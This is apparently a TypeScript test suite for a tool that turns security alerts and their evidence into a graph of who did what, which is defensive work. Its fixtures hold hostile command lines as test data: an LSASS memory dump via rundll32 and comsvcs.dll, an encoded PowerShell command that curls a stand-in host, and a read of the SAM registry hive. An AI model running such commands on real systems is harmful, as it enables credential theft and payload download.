import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildStoryGraph } from './graph.ts';
import { arbitraryScene, arbitraryStory } from './testing/arbitrary-story.ts';
import { alert, item, story } from './testing/story-parts.ts';
import type { StoryAlert, StoryEvidence, StoryInput } from './types.ts';

const told = (input: Partial<StoryInput>): string[] =>
  buildStoryGraph(story(input))
    .edges.filter(({ kind }) => kind === 'relation')
    .map(({ source, relation, target }) => `${source.slice(2)} ${relation} ${target.slice(2)}`);

/** What one alert with this evidence tells. */
const relations = (
  evidence: readonly StoryEvidence[],
  more: Partial<StoryAlert> = {},
  identifiers: StoryInput['identifiers'] = new Map(),
): string[] => told({ alerts: [alert('x', 1, more)], evidence, identifiers });

const process = (
  id: number,
  name: string,
  details: StoryEvidence['details'] = {},
  more: { readonly roles?: readonly string[]; readonly verdict?: string; readonly embedded?: boolean } = {},
): StoryEvidence => {
  const one = item(
    id,
    'process',
    'x',
    { processId: id, imageFile: { fileName: name, filePath: 'C:\\Tools' }, ...details },
    more.roles,
  );
  return {
    ...one,
    entity: { ...one.entity, verdict: more.verdict ?? 'malicious' },
    embedded: more.embedded ?? false,
  };
};
const file = (id: number, name: string, roles: readonly string[] = ['created']): StoryEvidence =>
  item(id, 'file', 'x', { fileDetails: { fileName: name, filePath: 'C:\\Tools' } }, roles);
const address = (id: number, text: string): StoryEvidence =>
  item(id, 'ip', 'x', { ipAddress: text }, ['commandAndControl']);

describe('who did it', () => {
  it('is no victim, nobody that stands by and nothing that is clean', () => {
    const evidence = [
      process(1, 'rundll32.exe', {
        processCommandLine: 'rundll32.exe comsvcs.dll, MiniDump 724 C:\\d.bin full',
      }),
      process(2, 'lsass.exe', {}, { roles: ['attacked'], verdict: 'noThreatsFound' }),
      process(3, 'msedge.exe', {}, { roles: ['contextual'] }),
      process(4, 'svchost.exe', {}, { verdict: 'noThreatsFound' }),
      file(10, 'd.bin'),
      address(11, '203.0.113.199'),
    ];
    expect(relations(evidence)).toEqual(['1 created 10', '1 connected to 11']);
  });

  it('is not what any of its possible parents ran from, whichever of them is told first', () => {
    const child = (parent: number): StoryEvidence => process(3, 'b.exe', { parentProcessId: parent });
    const parents = [process(1, 'cmd.exe'), process(2, 'a.exe')];
    const made = [file(10, 'cmd.exe'), file(11, 'a.exe'), file(12, 'c.exe')];
    const evidence = [...parents, child(1), child(2), ...made];
    expect(relations(evidence).filter((told) => told.startsWith('3 created'))).toEqual([]);
    expect(relations(evidence.toReversed()).toSorted()).toEqual(relations(evidence).toSorted());
    const alone = [
      process(1, 'cmd.exe', {}, { roles: ['contextual'] }),
      process(2, 'a.exe', {}, { roles: ['contextual'] }),
      child(2),
      child(1),
      ...made,
    ];
    for (const order of [alone, alone.toReversed()])
      expect(relations(order).filter((told) => told.startsWith('3 created'))).toEqual(['3 created 12']);
  });

  it('is not what ran from a file, nor what that started: only on which device it was is known then', () => {
    const evidence = [
      process(1, 'hdsvc.exe'),
      process(2, 'cmd.exe', { parentProcessId: 1 }),
      file(10, 'hdsvc.exe'),
      item(11, 'registryValue', 'x', {
        registryHive: 'HKLM',
        registryKey: 'SYSTEM\\CurrentControlSet\\Services\\hdsvc',
        registryValue: 'C:\\Tools\\hdsvc.exe',
      }),
      item(12, 'device', 'x', { hostName: 'leg' }),
    ];
    expect(relations(evidence)).toEqual(['1 started 2', '10 seen on 12', '11 seen on 12']);
    expect(relations(evidence.filter(({ entity }) => entity.id !== 2))).toEqual([
      '10 seen on 12',
      '11 seen on 12',
    ]);
  });

  it('of several that can have, is the one whose command line names it, plain or encoded, and not the shell around it', () => {
    const encoded = btoa([...'curl http://203.0.113.7/a'].map((letter) => `${letter}\0`).join(''));
    const evidence = [
      process(1, 'cmd.exe', { processCommandLine: 'cmd /c reg add "hkcu\\console" /v size' }),
      process(2, 'reg.exe', { processCommandLine: 'reg add "hkcu\\console" /v size', parentProcessId: 1 }),
      process(3, 'powershell.exe', { processCommandLine: `powershell -enc ${encoded}` }),
      item(10, 'registryKey', 'x', { registryHive: 'HKEY_CURRENT_USER', registryKey: 'Console' }),
      address(11, '203.0.113.7'),
      address(12, '203.0.113.70'),
    ];
    expect(relations(evidence)).toEqual(['1 started 2', '2 set 10', '3 connected to 11']);
    const device = item(13, 'device', 'x', { hostName: 'leg' });
    expect(relations([...evidence, device])).toContain('13 connected to 12');
  });

  it('sets nothing where the command only reads', () => {
    const key = item(10, 'registryKey', 'x', { registryHive: 'HKLM', registryKey: 'SAM\\Domains' });
    const reads = process(1, 'reg.exe', { processCommandLine: 'reg query HKLM\\SAM\\Domains' });
    expect(relations([reads, key])).toEqual(['1 read 10']);
  });

  it('is no user of a title where the files are programs that ran, several can have, or it was only tried', () => {
    const user = item(1, 'user', 'x');
    const title = { title: 'Suspicious download using Certutil detected' };
    const ran = process(2, 'certutil.exe');
    expect(relations([user, ran, file(3, 'certutil.exe', [])], title)).toEqual([]);
    const document = item(4, 'file', 'x', { fileDetails: { fileName: 'plan.docx' } });
    expect(relations([user, document], { title: 'Mass download' })).toEqual(['1 downloaded 4']);
    expect(relations([user, document], { title: 'Mass download was blocked' })).toEqual([]);
    expect(relations([user, item(5, 'user', 'x'), document], { title: 'Mass download' })).toEqual([]);
    expect(relations([user, { ...document, embedded: true }], { title: 'Mass download' })).toEqual([]);
    const macro = { ...document, roles: ['edited'] };
    expect(relations([user, macro], { title: 'Malicious macro in a shared document' })).toEqual([
      '1 modified 4',
    ]);
  });
});

describe('what was tried', () => {
  const users = [1, 2, 3].map((id) => item(id, 'user', 'x', {}, ['attacked']));
  const identity = { serviceSource: 'azureAdIdentityProtection' };

  it('is not told as done: spraying, brute force, and sign-ins of those attacked', () => {
    const from = item(9, 'ip', 'x', {}, ['attacker']);
    const tries = ['1', '2', '3'].map((id) => `${id} tried to sign in from 9`);
    expect(relations([...users, from], { ...identity, title: 'Password Spray' })).toEqual(tries);
    expect(relations([...users, from], { ...identity, title: 'Unfamiliar sign-in properties' })).toEqual(
      tries,
    );
    const compromised = item(1, 'user', 'x', {}, ['compromised']);
    expect(relations([compromised, from], { ...identity, title: 'Suspected brute-force attack' })).toEqual([
      '1 tried to sign in from 9',
    ]);
    expect(relations([compromised, from], { ...identity, title: 'Anonymous address' })).toEqual([
      '1 signed in from 9',
    ]);
  });

  it('holds for connections and for moving on', () => {
    const device = item(1, 'device', 'x', { hostName: 'a' }, ['compromised']);
    const server = item(2, 'ip', 'x', { ipAddress: '203.0.113.7' }, ['destination']);
    expect(relations([device, server], { title: 'Connection to an indicator was blocked' })).toEqual([
      '1 tried to connect to 2',
    ]);
    const movement = { tactic: 'lateral-movement' };
    const next = item(3, 'device', 'x', { hostName: 'b' }, ['attacked']);
    expect(relations([device, next], movement)).toEqual(['1 tried to move laterally to 3']);
    const there = { ...next, roles: ['destination'] };
    // The domain controller that was asked for a ticket was not moved to.
    for (const title of ['Suspected overpass-the-hash attack (Kerberos)', 'Suspected Golden Ticket usage'])
      expect(relations([device, there], { ...movement, title })).toEqual(['1 requested a ticket from 3']);
    expect(relations([device, there], { ...movement, techniques: ['T1558.003'] })).toEqual([
      '1 requested a ticket from 3',
    ]);
    expect(relations([device, there], { ...movement, techniques: ['T1550.002'] })).toEqual([
      '1 moved laterally to 3',
    ]);
    expect(relations([device, there], movement)).toEqual(['1 moved laterally to 3']);
  });
});

describe('what evidence states', () => {
  it('has parents that stand inside of their child, and those that another alert names', () => {
    const host = { mdeDeviceId: 'Dev-1' };
    const start = '2025-06-10T05:40:02.441Z';
    const child = (alertUid: string, id: number): StoryEvidence =>
      item(id, 'process', alertUid, {
        ...host,
        processId: id,
        parentProcessId: 668,
        parentProcessCreationDateTime: start,
      });
    const parent = item(1, 'process', 'x', { processId: '668', processCreationDateTime: start });
    const identifiers = new Map([[1, [`dev-1|668|${Date.parse(start)}`]]]);
    const alerts = [alert('x', 1), alert('y', 2)];
    const evidence = [{ ...parent, embedded: true }, child('x', 2), child('y', 3)];
    expect(told({ alerts, evidence, identifiers })).toEqual(['1 started 2', '1 started 3']);
    // Another process had the number on another device, or later.
    const others = new Map([[1, ['dev-2|668|1', 'dev-1|668|7']]]);
    expect(told({ alerts, evidence: evidence.slice(2), identifiers: others })).toEqual([]);
  });

  it('tells processes with one id apart by their start', () => {
    const at = (minute: number): string => `2025-06-10T05:0${minute}:00Z`;
    const evidence = [
      process(1, 'a.exe', { processId: 4, processCreationDateTime: at(1) }),
      process(2, 'a.exe', { processId: 4, processCreationDateTime: at(3) }),
      process(3, 'a.exe', { processId: 4, processCreationDateTime: at(7) }),
      process(5, 'b.exe', { parentProcessId: 4, processCreationDateTime: at(5) }),
      process(6, 'b.exe', { parentProcessId: 4, parentProcessCreationDateTime: at(1) }),
      process(7, 'b.exe', { parentProcessId: 4, parentProcessImageFile: { fileName: 'other.exe' } }),
    ];
    expect(relations(evidence)).toEqual(['2 started 5', '1 started 6']);
  });

  it('has what SYSTEM of each device ran', () => {
    const ran = (id: number, mdeDeviceId: string): StoryEvidence =>
      process(id, 'a.exe', { mdeDeviceId, userAccount: { accountName: 'SYSTEM', userSid: 'S-1-5-18' } });
    const system = (id: number): StoryEvidence => ({ ...item(id, 'user', 'x'), embedded: true });
    const identifiers = new Map([
      [1, ['dev-1|s-1-5-18']],
      [2, ['dev-2|s-1-5-18']],
    ]);
    const evidence = [system(1), system(2), ran(3, 'dev-1'), ran(4, 'Dev-2')];
    expect(relations(evidence, {}, identifiers)).toEqual(['1 ran 3', '2 ran 4']);
  });
});

describe('relations of any evidence', () => {
  it('join only what one alert names together', () => {
    fc.assert(
      fc.property(arbitraryStory, (input) => {
        const values = (id: number): readonly string[] => input.identifiers.get(id) ?? [];
        for (const { kind, source, target, alerts } of buildStoryGraph(input).edges) {
          if (kind !== 'relation') continue;
          expect(alerts.length).toBeGreaterThan(0);
          for (const { uid } of alerts) {
            const own = input.evidence.filter(({ alertUid }) => alertUid === uid);
            const text = JSON.stringify(own.map(({ details }) => details)).toLowerCase();
            const isNamed = (node: string): boolean =>
              own.some(({ entity }) => node === `e:${entity.id}`) ||
              values(Number(node.slice(2))).some((value) =>
                text.includes(JSON.stringify(value).slice(1, -1).toLowerCase()),
              );
            expect([isNamed(source), isNamed(target)]).toEqual([true, true]);
          }
        }
      }),
      { numRuns: 300 },
    );
  });

  it('never have a process make its own image or one of a process above it', () => {
    fc.assert(
      fc.property(arbitraryScene, ({ evidence, parents, images }) => {
        for (const one of relations(evidence)) {
          const [id = '', verb = '', target = ''] = one.split(' ');
          if (!['created', 'modified', 'loaded'].includes(verb)) continue;
          const above = new Set<number>();
          for (
            let at: number | undefined = Number(id);
            at !== undefined && !above.has(at);
            at = parents.get(at)
          )
            above.add(at);
          for (const each of above) expect(images.get(each)).not.toBe(Number(target));
        }
      }),
      { numRuns: 500 },
    );
  });

  it('are told by alerts, the earliest first, with what says so', () => {
    const alerts = Array.from({ length: 30 }, (_, index) => alert(`x${index}`, 30 - index));
    const evidence = alerts.flatMap(({ uid }) => [
      item(1, 'process', uid, { imageFile: { sha256: 'ff' } }),
      item(2, 'file', uid),
    ]);
    const graph = buildStoryGraph(story({ alerts, evidence, identifiers: new Map([[2, ['ff']]]) }));
    const edge = graph.edges.find(({ relation }) => relation === 'run from');
    expect(edge?.alertTotal).toBe(30);
    expect(edge?.alerts).toHaveLength(20);
    expect(edge?.alerts[0]).toEqual({
      uid: 'x29',
      title: 'Alert x29',
      at: 1,
      because: 'the image of the process',
    });
    // All of them, so that a line is there with the first that tells of it on any clock.
    expect(edge?.lines.map(({ at, alerts: told }) => [at, [...told].sort()])).toEqual([
      [1, alerts.map(({ uid }) => `a:${uid}`).sort()],
    ]);
  });
});
